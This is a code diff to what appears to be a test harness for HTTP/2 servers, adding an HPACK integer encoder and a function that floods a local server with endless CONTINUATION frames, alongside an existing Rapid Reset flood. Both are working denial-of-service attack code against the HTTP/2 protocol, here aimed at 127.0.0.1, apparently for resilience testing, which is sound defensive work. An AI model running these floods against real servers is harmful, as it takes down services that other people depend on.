@@ -70,3 +70,36 @@ def rapid_reset(port, path, streams, extra=()):
                                       for i in range(first, min(first + 200, streams))))
         except OSError:
             pass  # the peer closed the connection: that is one way to refuse it
+
+
+CONTINUATION = 9
+
+
+def hpack_int(value, prefix_bits):
+    """An HPACK integer with a prefix of prefix_bits bits (RFC 7541, 5.1), first byte's other
+    bits 0."""
+    top = (1 << prefix_bits) - 1
+    if value < top:
+        return bytes([value])
+    out, value = [top], value - top
+    while value >= 128:
+        out.append((value & 127) | 128)
+        value >>= 7
+    return bytes(out + [value])
+
+
+def endless_header(port, path, megabytes):
+    """HPACK's CONTINUATION flood (the CVE-2023-33953 class): the HEADERS of a call to path
+    whose last field announces a value of `megabytes` MiB, then CONTINUATION frames of 16 KiB
+    carrying it, never END_HEADERS. Returns when all is sent or the peer closed."""
+    size = megabytes << 20
+    block = headers_block(port, path) + b"\x00" + hpack_int(5, 7) + b"x-big" + hpack_int(size, 7)
+    with socket.create_connection(("127.0.0.1", port), timeout=60) as sock:
+        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) +
+                     frame(HEADERS, 0, 1, block))
+        piece = frame(CONTINUATION, 0, 1, b"a" * 16384)
+        try:
+            for _ in range(size // 16384):
+                sock.sendall(piece)
+        except OSError:
+            pass  # the peer closed the connection: that is one way to refuse it
